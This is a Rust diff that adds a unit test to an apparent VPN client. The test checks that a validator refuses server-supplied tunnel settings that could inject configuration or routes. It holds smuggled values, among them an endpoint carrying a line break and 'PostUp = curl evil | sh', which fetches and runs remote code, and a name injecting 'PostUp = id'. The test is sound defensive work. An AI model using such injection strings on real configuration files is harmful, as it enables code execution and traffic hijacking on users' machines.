@@ -146,3 +146,31 @@ fn byte_counts_read_well() {
     assert_eq!(bytes(1024), "1.0 KiB");
     assert_eq!(bytes(10 * 1024 * 1024 + 512 * 1024), "10.5 MiB");
 }
+
+#[test]
+fn a_server_answer_that_could_inject_configuration_or_routes_is_refused() {
+    let good = crate::fake_server::tunnel(crate::fake_server::peer_view("peer-1", "laptop"));
+    check_tunnel(&good).unwrap();
+    let mut cases: Vec<(&str, TunnelConfig)> = Vec::new();
+    let mut t = good.clone();
+    t.endpoint = "gateway.test:51820\nPostUp = curl evil | sh".into();
+    cases.push(("endpoint with a line break", t));
+    let mut t = good.clone();
+    t.peer.name = "laptop\nPostUp = id".into();
+    cases.push(("name with a line break", t));
+    let mut t = good.clone();
+    t.allowed_ips = "0.0.0.0/0".into();
+    cases.push(("everything routed to the server", t));
+    let mut t = good.clone();
+    t.address = "10.0.0.2/32".into();
+    cases.push(("address outside the network", t));
+    let mut t = good.clone();
+    t.server_public_key = "nope".into();
+    cases.push(("bad key", t));
+    let mut t = good.clone();
+    t.dns = Some("8.8.8.8".into());
+    cases.push(("DNS outside the overlay", t));
+    for (what, tunnel) in cases {
+        assert!(check_tunnel(&tunnel).is_err(), "{what} was accepted");
+    }
+}
